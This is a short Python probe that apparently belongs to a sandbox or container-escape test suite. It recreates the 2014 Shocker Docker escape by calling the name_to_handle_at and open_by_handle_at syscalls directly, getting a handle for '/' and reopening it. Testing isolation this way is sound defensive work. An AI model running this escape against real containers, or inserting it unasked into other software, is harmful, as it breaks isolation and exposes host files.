# Opens files by handle, past every mount (the Shocker exploit of 2014).
# source: open_by_handle_at(2); Docker before 1.0
# control: host
import ctypes
import os
import struct

from attempts import attempt, call


def open_root():
    handle, mount = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128)), ctypes.create_string_buffer(4)
    call(303, -100, b"/", handle, mount, 0)
    return call(304, os.open("/", os.O_RDONLY), handle, os.O_RDONLY)


attempt("open / by its handle", open_root)
